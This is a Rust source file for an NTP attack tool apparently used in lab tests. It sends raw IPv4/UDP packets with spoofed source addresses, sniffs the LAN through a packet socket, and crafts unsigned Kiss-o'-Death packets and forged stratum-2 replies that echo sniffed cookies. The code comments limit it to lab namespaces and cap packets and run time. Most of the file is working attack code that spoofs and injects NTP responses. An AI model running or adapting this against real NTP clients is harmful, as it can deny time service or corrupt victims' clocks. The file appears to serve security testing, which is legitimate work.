//! The logic of `ntp-attack`: a LAN host holding no key that spoofs
//! source addresses with raw sockets (IPv4 + UDP headers built here,
//! `IPPROTO_RAW`) and sniffs the LAN with an `AF_PACKET` socket. Every
//! mode is bounded in packets sent and in time ([`Bounds`]). For lab
//! namespaces only: the tests run it on their own Lan's hosts, which live
//! in 198.18.0.0/15.

use std::io::{self, Read};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use serde::{Deserialize, Serialize};
use socket2::{Domain, Protocol, Socket, Type};

/// The most packets any mode may send.
pub const MAX_COUNT: u64 = 100_000;
/// The longest any mode may run.
pub const MAX_DURATION: Duration = Duration::from_secs(600);

/// What a run sent, printed as one JSON line on exit.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Summary {
    /// The sub-command.
    pub mode: String,
    /// Packets of interest seen on the LAN (broadcasts, requests).
    pub seen: u64,
    /// Packets recorded for a later replay.
    pub recorded: u64,
    /// Spoofed packets sent.
    pub sent: u64,
    /// Seconds the run took.
    pub elapsed_s: f64,
}

/// Limits of a run: packets and time.
#[derive(Debug, Clone, Copy)]
pub struct Bounds {
    count: u64,
    until: Instant,
}

impl Bounds {
    /// At most `count` packets within `duration`.
    ///
    /// # Errors
    /// Either above its maximum ([`MAX_COUNT`], [`MAX_DURATION`]).
    pub fn new(count: u64, duration: Duration) -> Result<Bounds, String> {
        if count > MAX_COUNT {
            return Err(format!("--count {count} is above the maximum {MAX_COUNT}"));
        }
        if duration > MAX_DURATION {
            return Err(format!(
                "--duration-s {} is above the maximum {}",
                duration.as_secs(),
                MAX_DURATION.as_secs()
            ));
        }
        Ok(Bounds {
            count,
            until: Instant::now() + duration,
        })
    }

    /// Whether `sent` packets leave room for one more, in time.
    pub fn more(&self, sent: u64) -> bool {
        sent < self.count && Instant::now() < self.until
    }

    /// When the run must end.
    pub fn until(&self) -> Instant {
        self.until
    }
}

/// Sends UDP datagrams with any IPv4 source address (`IPPROTO_RAW`, which
/// implies `IP_HDRINCL`).
pub struct Spoofer {
    sock: Socket,
}

impl Spoofer {
    /// Opens the raw socket (needs `CAP_NET_RAW`).
    ///
    /// # Errors
    /// The socket cannot be opened.
    pub fn new() -> io::Result<Spoofer> {
        let sock = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255)))?;
        sock.set_broadcast(true)?;
        Ok(Spoofer { sock })
    }

    /// Sends `payload` from `src` to `dst`.
    ///
    /// # Errors
    /// The kernel refused the datagram.
    pub fn send(&self, src: SocketAddrV4, dst: SocketAddrV4, payload: &[u8]) -> io::Result<()> {
        let ttl = if dst.ip().is_multicast() { 1 } else { 64 };
        let buf = mcast_diag::craft::ipv4_udp(src, dst, ttl, payload).map_err(io::Error::other)?;
        let to = SocketAddr::V4(SocketAddrV4::new(*dst.ip(), 0));
        self.sock.send_to(&buf, &to.into()).map(drop)
    }
}

/// A UDP/IPv4 datagram seen on the wire.
#[derive(Debug, Clone)]
pub struct Seen {
    /// When it was read.
    pub at: Instant,
    /// Source.
    pub src: SocketAddrV4,
    /// Destination.
    pub dst: SocketAddrV4,
    /// UDP payload.
    pub payload: Vec<u8>,
}

/// Reads every frame of the host (`AF_PACKET`, `ETH_P_ALL`), leaving out
/// those this host sent itself (by source MAC).
pub struct Sniffer {
    sock: Socket,
    own_mac: [u8; 6],
    buf: Vec<u8>,
}

impl Sniffer {
    /// Opens the packet socket; `iface` names the interface whose MAC is
    /// ours.
    ///
    /// # Errors
    /// The socket cannot be opened or the MAC read.
    pub fn new(iface: &str) -> io::Result<Sniffer> {
        let eth_p_all = i32::from(0x0003u16.to_be());
        let sock = Socket::new(Domain::PACKET, Type::RAW, Some(Protocol::from(eth_p_all)))?;
        let text = std::fs::read_to_string(format!("/sys/class/net/{iface}/address"))?;
        let mut own_mac = [0u8; 6];
        for (slot, part) in own_mac.iter_mut().zip(text.trim().split(':')) {
            *slot = u8::from_str_radix(part, 16).map_err(|e| io::Error::other(e.to_string()))?;
        }
        Ok(Sniffer {
            sock,
            own_mac,
            buf: vec![0; 65_536],
        })
    }

    /// The next UDP/IPv4 datagram another host sent, or `None` once
    /// `deadline` passed.
    ///
    /// # Errors
    /// A read error other than a timeout.
    pub fn next_until(&mut self, deadline: Instant) -> io::Result<Option<Seen>> {
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            if left.is_zero() {
                return Ok(None);
            }
            self.sock
                .set_read_timeout(Some(left.max(Duration::from_micros(100))))?;
            let n = match (&self.sock).read(&mut self.buf) {
                Ok(n) => n,
                Err(e)
                    if matches!(
                        e.kind(),
                        io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
                    ) =>
                {
                    continue;
                }
                Err(e) => return Err(e),
            };
            let frame = self.buf.get(..n).unwrap_or_default();
            if frame.get(6..12) == Some(&self.own_mac[..]) {
                continue;
            }
            if let Some((src, dst, payload)) = parse_frame(frame) {
                return Ok(Some(Seen {
                    at: Instant::now(),
                    src,
                    dst,
                    payload: payload.to_vec(),
                }));
            }
        }
    }
}

fn be16(b: &[u8], at: usize) -> Option<u16> {
    Some(u16::from_be_bytes(b.get(at..at + 2)?.try_into().ok()?))
}

/// Ethernet II / IPv4 / UDP, unfragmented.
fn parse_frame(frame: &[u8]) -> Option<(SocketAddrV4, SocketAddrV4, &[u8])> {
    if be16(frame, 12)? != 0x0800 {
        return None;
    }
    let ip = frame.get(14..)?;
    let ihl = usize::from(ip.first()? & 0x0f) * 4;
    let total = usize::from(be16(ip, 2)?);
    if *ip.get(9)? != 17 || be16(ip, 6)? & 0x3fff != 0 {
        return None;
    }
    let src: [u8; 4] = ip.get(12..16)?.try_into().ok()?;
    let dst: [u8; 4] = ip.get(16..20)?.try_into().ok()?;
    let udp = ip.get(ihl..total)?;
    let len = usize::from(be16(udp, 4)?);
    Some((
        SocketAddrV4::new(src.into(), be16(udp, 0)?),
        SocketAddrV4::new(dst.into(), be16(udp, 2)?),
        udp.get(8..len)?,
    ))
}

/// The NTP mode of a payload.
pub fn mode(p: &[u8]) -> Option<u8> {
    p.first().map(|b| b & 7)
}

/// The transmit timestamp (raw 64 bits) of a payload.
pub fn transmit(p: &[u8]) -> Option<u64> {
    Some(u64::from_be_bytes(p.get(40..48)?.try_into().ok()?))
}

/// The poll exponent of a payload.
pub fn poll(p: &[u8]) -> Option<i8> {
    p.get(2).map(|&b| i8::from_be_bytes([b]))
}

/// Now as a raw NTP timestamp.
pub fn ntp_now() -> u64 {
    let d = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap_or_default();
    let secs = d.as_secs() + 2_208_988_800;
    let frac = (u64::from(d.subsec_nanos()) << 32) / 1_000_000_000;
    (secs << 32) | frac
}

/// An unsigned Kiss-o'-Death (mode 4, LI 3, stratum 0, refid `code`)
/// echoing `cookie` in origin, receive and transmit, as ntpd sends one.
pub fn kod(cookie: u64, code: [u8; 4], poll: i8) -> Vec<u8> {
    let mut p = [0u8; 48];
    p[0] = 0xe4;
    p[2] = poll.to_be_bytes()[0];
    p[3] = 0xec;
    p[12..16].copy_from_slice(&code);
    p[24..32].copy_from_slice(&cookie.to_be_bytes());
    p[32..40].copy_from_slice(&cookie.to_be_bytes());
    p[40..48].copy_from_slice(&cookie.to_be_bytes());
    p.to_vec()
}

/// A forged reply (mode 4, stratum 2) echoing `cookie` as origin, with a
/// MAC under key id `key_id` (no key of the victim's; junk digest).
pub fn forged_reply(cookie: u64, key_id: u32) -> Vec<u8> {
    let now = ntp_now();
    let mut p = [0u8; 48];
    p[0] = 0x24;
    p[1] = 2;
    p[2] = 6;
    p[3] = 0xec;
    p[12..16].copy_from_slice(b"LIAR");
    p[16..24].copy_from_slice(&now.to_be_bytes());
    p[24..32].copy_from_slice(&cookie.to_be_bytes());
    p[32..40].copy_from_slice(&now.to_be_bytes());
    p[40..48].copy_from_slice(&now.to_be_bytes());
    let mut v = p.to_vec();
    v.extend(key_id.to_be_bytes());
    v.extend([0x5a; 16]);
    v
}

/// An unsigned client request (mode 3, version 4) sent now.
pub fn request(poll: i8) -> Vec<u8> {
    let mut p = [0u8; 48];
    p[0] = 0x23;
    p[2] = poll.to_be_bytes()[0];
    p[3] = 0xec;
    p[40..48].copy_from_slice(&ntp_now().to_be_bytes());
    p.to_vec()
}

/// Sleeps until `at` (the tool's pacing; no test synchronises on it).
pub fn sleep_until(at: Instant) {
    let left = at.saturating_duration_since(Instant::now());
    if !left.is_zero() {
        std::thread::sleep(left);
    }
}

/// `a.b.c.d` from a string, for messages.
pub fn parse_v4(s: &str) -> Result<Ipv4Addr, String> {
    s.parse().map_err(|e| format!("{s:?}: {e}"))
}

#[cfg(test)]
#[allow(clippy::indexing_slicing, clippy::panic, reason = "test")]
mod tests {
    use super::*;

    #[test]
    fn kod_echoes_the_cookie_everywhere() {
        let p = kod(0x1122_3344_5566_7788, *b"DENY", 3);
        assert_eq!(mode(&p), Some(4));
        assert_eq!(p[1], 0);
        assert_eq!(&p[12..16], b"DENY");
        assert_eq!(transmit(&p), Some(0x1122_3344_5566_7788));
        assert_eq!(&p[24..32], &p[40..48]);
    }

    #[test]
    fn bounds_have_maxima() {
        assert!(Bounds::new(MAX_COUNT + 1, Duration::from_secs(1)).is_err());
        assert!(Bounds::new(1, MAX_DURATION + Duration::from_secs(1)).is_err());
        let b = Bounds::new(2, Duration::from_secs(5)).unwrap_or_else(|e| panic!("{e}"));
        assert!(b.more(1));
        assert!(!b.more(2));
    }
}
